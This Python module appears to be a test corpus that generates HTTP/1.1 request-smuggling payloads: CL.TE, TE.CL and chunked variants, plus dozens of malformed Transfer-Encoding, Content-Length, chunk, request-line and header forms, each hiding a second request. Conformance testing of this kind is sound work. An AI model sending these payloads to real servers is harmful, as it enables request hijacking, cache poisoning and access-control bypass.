"""Requests that two servers may read differently, each with another request hidden where the other reading would find it.

An attack is the bytes of one connection. In them ID.1 is the request that carries the attack, ID.s the smuggled one; ID.n, a plain request,
is sent behind. Whoever reads HTTP/1.1 by RFC 9112 never takes ID.s for a request of its own, or refuses the whole and closes.
"""
HOST = b"Host: cti.example.com\r\n"


def smuggled(uid):
    return b"GET /smuggled-" + uid + b" HTTP/1.1\r\n" + HOST + b"X-Request-Id: " + uid + b".s\r\n\r\n"


def request(uid, headers, body=b"", line=b"POST /webhooks/dialpad HTTP/1.1", host=HOST, end=b"\r\n\r\n"):
    lines = [line + b"\r\n" + host + b"X-Request-Id: " + uid + b".1", *headers]
    return b"\r\n".join(lines) + end + body


def length(n):
    return b"Content-Length: %d" % n


def cl_te(*te):
    """Length says all, chunked says nothing: the rest is the next request for one who reads chunks."""
    def build(uid):
        body = b"0\r\n\r\n" + smuggled(uid)
        return request(uid, [length(len(body)), *te], body)
    return build


def te_cl(*te):
    """Chunked says all, the length ends after the first chunk's size: what is in the chunk is a request for one who counts."""
    def build(uid):
        size = b"%x\r\n" % len(smuggled(uid))
        return request(uid, [length(len(size)), *te], size + smuggled(uid) + b"\r\n0\r\n\r\n")
    return build


def te_only(*te):
    """No length: one who does not know the coding sees no body at all."""
    def build(uid):
        return request(uid, list(te), b"%x\r\n" % len(smuggled(uid)) + smuggled(uid) + b"\r\n0\r\n\r\n")
    return build


def cl(*headers, line=b"POST /webhooks/dialpad HTTP/1.1", wrap=lambda n: [length(n)], host=HOST):
    """A body that is a request, framed by headers that somebody may not count."""
    def build(uid):
        s = smuggled(uid)
        return request(uid, [*headers, *wrap(len(s))], s, line, host)
    return build


def chunks(form):
    """A chunked body with something wrong in it; %s is the smuggled request, %n its size in hex."""
    def build(uid):
        s = smuggled(uid)
        return request(uid, [b"Transfer-Encoding: chunked"], form.replace(b"%n", b"%x" % len(s)).replace(b"%s", s))
    return build


def plain(form, end=b"\r\n\r\n"):
    """Bytes as they are; %1 is the id of the attack, %s the smuggled request, %n its length."""
    def build(uid):
        s = smuggled(uid)
        return form.replace(b"%1", uid + b".1").replace(b"%n", b"%d" % len(s)).replace(b"%s", s).replace(b"%u", uid) + (end if b"%s" not in form else b"")
    return build


CODINGS = {
    "plain": [b"Transfer-Encoding: chunked"], "upper": [b"TRANSFER-ENCODING: CHUNKED"], "x": [b"Transfer-Encoding: xchunked"],
    "no blank": [b"Transfer-Encoding:chunked"], "tab": [b"Transfer-Encoding:\tchunked"], "vt": [b"Transfer-Encoding:\x0bchunked"],
    "ff": [b"Transfer-Encoding:\x0cchunked"], "blank behind": [b"Transfer-Encoding: chunked "], "tab behind": [b"Transfer-Encoding: chunked\t"],
    "space before colon": [b"Transfer-Encoding : chunked"], "tab before colon": [b"Transfer-Encoding\t: chunked"],
    "nul in name": [b"Transfer-Encoding\0: chunked"], "nul in value": [b"Transfer-Encoding: chunked\0"], "underscore": [b"Transfer_Encoding: chunked"],
    "identity": [b"Transfer-Encoding: identity"], "list": [b"Transfer-Encoding: chunked, identity"], "list2": [b"Transfer-Encoding: identity, chunked"],
    "gzip": [b"Transfer-Encoding: gzip, chunked"], "empty element": [b"Transfer-Encoding: , chunked"], "twice": [b"Transfer-Encoding: chunked"] * 2,
    "two": [b"Transfer-Encoding: chunked", b"Transfer-Encoding: identity"], "two2": [b"Transfer-Encoding: x", b"Transfer-Encoding: chunked"],
    "quoted": [b'Transfer-Encoding: "chunked"'], "parameter": [b"Transfer-Encoding: chunked;q=1"], "short": [b"Transfer-Encoding: chunk"],
    "fold": [b"Transfer-Encoding:\r\n chunked"], "fold2": [b"X: y\r\n Transfer-Encoding: chunked"], "bare lf": [b"X: y\nTransfer-Encoding: chunked"],
    "bare cr": [b"X: y\rTransfer-Encoding: chunked"], "cr cr lf": [b"X: y\r\r\nTransfer-Encoding: chunked"], "nbsp": [b"Transfer-Encoding:\xa0chunked"],
    "leading blank": [b" Transfer-Encoding: chunked"], "empty": [b"Transfer-Encoding:"], "content": [b"Content-Encoding: chunked"],
    "in connection": [b"Transfer-Encoding: chunked", b"Connection: Transfer-Encoding"], "trailing cr": [b"Transfer-Encoding: chunked\r"],
}
LENGTHS = {
    "zero before": lambda n: [length(0), length(n)], "zero behind": lambda n: [length(n), length(0)], "twice": lambda n: [length(n)] * 2,
    "list": lambda n: [b"Content-Length: %d, %d" % (n, n)], "list with zero": lambda n: [b"Content-Length: %d, 0" % n],
    "plus": lambda n: [b"Content-Length: +%d" % n], "minus": lambda n: [b"Content-Length: -%d" % n], "hex": lambda n: [b"Content-Length: 0x%x" % n],
    "octal": lambda n: [b"Content-Length: 0%d" % n], "wrap 32": lambda n: [length(n + (1 << 32))], "wrap 64": lambda n: [length(n + (1 << 64))],
    "space inside": lambda n: [b"Content-Length: %d %d" % (n, n)], "space before colon": lambda n: [b"Content-Length : %d" % n],
    "tab before colon": lambda n: [b"Content-Length\t: %d" % n], "underscore": lambda n: [b"Content_Length: %d" % n],
    "underscore and zero": lambda n: [b"Content_Length: %d" % n, length(0)], "point": lambda n: [b"Content-Length: %d.0" % n],
    "exponent": lambda n: [b"Content-Length: %de0" % n], "comma": lambda n: [b"Content-Length: %d," % n], "quoted": lambda n: [b'Content-Length: "%d"' % n],
    "empty": lambda n: [b"Content-Length:"], "letters": lambda n: [b"Content-Length: %dx" % n], "nul": lambda n: [b"Content-Length: %d\0" % n],
    "vt": lambda n: [b"Content-Length: \x0b%d" % n], "fold": lambda n: [b"Content-Length:\r\n %d" % n], "fold of zero": lambda n: [length(0) + b"\r\n %d" % n],
    "bare lf": lambda n: [b"X: y\nContent-Length: %d" % n], "bare cr": lambda n: [b"X: y\rContent-Length: %d" % n],
    "nbsp": lambda n: [b"Content-Length:\xa0%d" % n], "in connection": lambda n: [length(n), b"Connection: Content-Length"],
    "in connection 2": lambda n: [length(n), b"Connection: close, content-length"],
}
CHUNKS = {
    "size 0x": b"0x%n\r\n%s\r\n0\r\n\r\n", "size plus": b"+%n\r\n%s\r\n0\r\n\r\n", "size minus": b"-%n\r\n%s\r\n0\r\n\r\n", "size blank": b"%n \r\n%s\r\n0\r\n\r\n",
    "size blank before": b" %n\r\n%s\r\n0\r\n\r\n", "size lf": b"%n\n%s\r\n0\r\n\r\n", "size cr": b"%n\r%s\r\n0\r\n\r\n", "size overflow": b"10000000000000000%n\r\n%s\r\n0\r\n\r\n",
    "size 32 bit": b"100000000\r\n%s\r\n0\r\n\r\n", "size underscore": b"%n_\r\n%s\r\n0\r\n\r\n", "zero with blank": b"0 \r\n\r\n%s", "zeros": b"0000000000000000000000\r\n\r\n%s",
    "no end of data": b"1\r\na0\r\n\r\n%s", "other end of data": b"1\r\naXX0\r\n\r\n%s", "lf end of data": b"1\r\na\n0\r\n\r\n%s", "cr end of data": b"1\r\na\r0\r\n\r\n%s",
    "ext lf": b"0;\n\r\n\r\n%s", "ext lf 2": b"1;a\nxx\r\n0\r\n\r\n%s", "ext cr": b"1;a\rb\r\nx\r\n0\r\n\r\n%s", "ext quoted crlf": b'1;a="\r\nx\r\n0\r\n\r\n%s', "ext nul": b"0;\0\r\n\r\n%s",
    "ext long": b"1;" + b"a" * 9000 + b"\r\nx\r\n0\r\n\r\n%s", "ext request": b"%n;%s\r\n0\r\n\r\n", "end lf": b"0\n\n%s", "end cr": b"0\r\r%s", "end half": b"0\r\n\n%s", "end half 2": b"0\n\r\n%s",
    "trailer is a request": b"0\r\n%s", "trailer length": b"0\r\nContent-Length: 500\r\n\r\n%s", "trailer coding": b"0\r\nTransfer-Encoding: chunked\r\n\r\n%s",
    "trailer host": b"0\r\nHost: y\r\nX-Forwarded-For: 203.0.113.9\r\n\r\n%s", "trailer folded": b"0\r\nA: b\r\n c\r\n\r\n%s", "trailer no colon": b"0\r\nabc\r\n\r\n%s",
    "negative then request": b"-0\r\n\r\n%s", "empty size": b"\r\n\r\n%s", "size comma": b"0,%n\r\n\r\n%s", "two sizes": b"0 %n\r\n%s\r\n0\r\n\r\n",
}
LINES = {
    "0.9": plain(b"GET /smuggled-%u\r\n\r\n"), "0.9 behind": plain(b"GET /x HTTP/1.1\r\n" + HOST + b"\r\nGET /smuggled-%u\r\n\r\n", b""),
    "1.0 chunked": plain(b"POST /x HTTP/1.0\r\n" + HOST + b"X-Request-Id: %1\r\nConnection: keep-alive\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n%s"),
    "1.0 no length": plain(b"POST /webhooks/dialpad HTTP/1.0\r\n" + HOST + b"X-Request-Id: %1\r\nConnection: keep-alive\r\n\r\n"),
    "1.2": cl(line=b"POST /x HTTP/1.2"), "1.10": cl(line=b"POST /x HTTP/1.10"), "2.0": cl(line=b"POST /x HTTP/2.0"), "0.5": cl(line=b"POST /x HTTP/0.5"),
    "01.1": cl(line=b"POST /x HTTP/01.1"), "lower": cl(line=b"POST /x http/1.1"), "version twice": cl(line=b"POST /x HTTP/1.1 HTTP/1.1"),
    "h2 preface": plain(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n%s"), "tab": cl(line=b"POST\t/x\tHTTP/1.1"), "two spaces": cl(line=b"POST  /x  HTTP/1.1"),
    "vt": cl(line=b"POST\x0b/x HTTP/1.1"), "cr in line": cl(line=b"POST /x\rHTTP/1.1"), "lf in line": cl(line=b"GET /x HTTP/1.1\nX: y"),
    "request in line": plain(b"GET /x HTTP/1.1\r\n" + HOST + b"X-Request-Id: %1\r\nX: HTTP/1.1\n\n%s"), "nul in path": cl(line=b"POST /x\0y HTTP/1.1"),
    "space in path": cl(line=b"POST /x y HTTP/1.1"), "crlf in path": cl(line=b"POST /x%0d%0aGET%20/smuggled HTTP/1.1"), "fragment": cl(line=b"POST /x#y HTTP/1.1"),
    "absolute": cl(line=b"POST http://cti.example.com/x HTTP/1.1"), "absolute other": cl(line=b"POST http://other.example.com/x HTTP/1.1"),
    "absolute user": cl(line=b"POST http://a@cti.example.com/x HTTP/1.1"), "authority": cl(line=b"POST cti.example.com:443 HTTP/1.1"),
    "connect": cl(line=b"CONNECT cti.example.com:443 HTTP/1.1"), "asterisk": cl(line=b"POST * HTTP/1.1"), "no path": cl(line=b"POST x HTTP/1.1"),
    "lower method": cl(line=b"post /webhooks/dialpad HTTP/1.1"), "unknown method": cl(line=b"GPOST /x HTTP/1.1"), "method junk": cl(line=b"GET,POST /x HTTP/1.1"),
    "empty lines before": plain(b"\r\n\r\n\r\nPOST /x HTTP/1.1\r\n" + HOST + b"X-Request-Id: %1\r\nContent-Length: %n\r\n\r\n%s"),
    "lf only": plain(b"POST /x HTTP/1.1\nHost: cti.example.com\nX-Request-Id: %1\nContent-Length: %n\n\n%s"),
    "lf head crlf": plain(b"POST /x HTTP/1.1\r\n" + HOST + b"X-Request-Id: %1\r\nContent-Length: %n\n\r\n%s"), "space first": plain(b" POST /x HTTP/1.1\r\n" + HOST + b"Content-Length: %n\r\n\r\n%s"),
}
HEADERS = {
    "expect": cl(b"Expect: 100-continue"), "expect other": cl(b"Expect: 200-ok"), "expect list": cl(b"Expect: x, 100-continue"), "expect twice": cl(b"Expect: 100-continue", b"Expect: 100-continue"),
    "expect space": cl(b"Expect : 100-continue"), "expect fold": cl(b"Expect:\r\n 100-continue"), "expect get": cl(b"Expect: 100-continue", line=b"GET /x HTTP/1.1"),
    "two hosts": cl(b"Host: other.example.com"), "host list": cl(host=b"Host: cti.example.com, other\r\n"), "no host": cl(host=b""), "host user": cl(host=b"Host: a@cti.example.com\r\n"),
    "host path": cl(host=b"Host: cti.example.com/x\r\n"), "host space": cl(host=b"Host : cti.example.com\r\n"), "host port": cl(host=b"Host: cti.example.com:x\r\n"),
    "upgrade h2c": cl(b"Connection: Upgrade, HTTP2-Settings", b"Upgrade: h2c", b"HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA"),
    "upgrade websocket": cl(b"Connection: Upgrade", b"Upgrade: websocket", b"Sec-WebSocket-Version: 13", b"Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA=="),
    "upgrade no body": plain(b"GET /api/calls HTTP/1.1\r\n" + HOST + b"X-Request-Id: %1\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nContent-Length: %n\r\n\r\n%s"),
    "connection host": cl(b"Connection: Host"), "connection junk": cl(b"Connection: keep-alive, \x0bclose"), "connection close": cl(b"Connection: close"), "proxy connection": cl(b"Proxy-Connection: keep-alive"),
    "obs-fold": cl(b"X: y\r\n\tz"), "fold at once": cl(host=b"Host: cti.example.com\r\n X-A: b\r\n"), "no colon": cl(b"abc"), "empty name": cl(b": x"), "space in name": cl(b"A B: c"), "nul in value": cl(b"X: a\0b"),
    "high name": cl(b"X\xff: a"), "request in header": cl(b"X: y\r\n\r\nGET /smuggled HTTP/1.1".replace(b"\r\n\r\n", b"\n\n")), "te trailers": cl(b"TE: trailers, chunked"),
    "keep-alive": cl(b"Keep-Alive: timeout=5"), "method override": cl(b"X-HTTP-Method-Override: GET"), "long": cl(b"X: " + b"a" * 15_000), "too long": cl(b"X: " + b"a" * 17_000),
}
BODIES = {      # a body where none is expected, or one that is refused before it came
    "get": cl(line=b"GET /api/calls HTTP/1.1"), "get unknown": cl(line=b"GET /nowhere HTTP/1.1"), "head": cl(line=b"HEAD /api/calls HTTP/1.1"), "options": cl(line=b"OPTIONS /api/calls HTTP/1.1"),
    "options *": cl(line=b"OPTIONS * HTTP/1.1"), "delete": cl(line=b"DELETE /api/calls HTTP/1.1"), "post unknown": cl(line=b"POST /nowhere HTTP/1.1"), "post to get": cl(line=b"POST /api/calls HTTP/1.1"),
    "trace": cl(line=b"TRACE / HTTP/1.1"), "put": cl(line=b"PUT /webhooks/dialpad HTTP/1.1"), "get chunked": te_only(b"Transfer-Encoding: chunked"),
    "short": lambda uid: request(uid, [length(10)], b"0123456789"), "1.0": cl(b"Connection: keep-alive", line=b"POST /nowhere HTTP/1.0"),
}

ATTACKS = {}
for _name, _te in CODINGS.items():
    ATTACKS["cl.te " + _name] = cl_te(*_te)
    ATTACKS["te.cl " + _name] = te_cl(*_te)
    ATTACKS["te " + _name] = te_only(*_te)
for _name, _lengths in LENGTHS.items():
    ATTACKS["length " + _name] = cl(wrap=_lengths)
    ATTACKS["length of a get " + _name] = cl(wrap=_lengths, line=b"GET /api/calls HTTP/1.1")
for _name, _form in CHUNKS.items():
    ATTACKS["chunk " + _name] = chunks(_form)
for _group, _attacks in (("line", LINES), ("header", HEADERS), ("body", BODIES)):
    for _name, _attack in _attacks.items():
        ATTACKS[f"{_group} {_name}"] = _attack

# By RFC 9112 these are two requests, one behind the other: coding of the content, and trailers, say nothing of where a message ends.
BEHIND = {"te.cl content", "chunk trailer length", "chunk trailer coding", "chunk trailer host"}
# Asked in HTTP/0.9, nginx answers in HTTP/0.9: a body and nothing else.
NO_HEAD = {"line 0.9", "line 0.9 behind"}
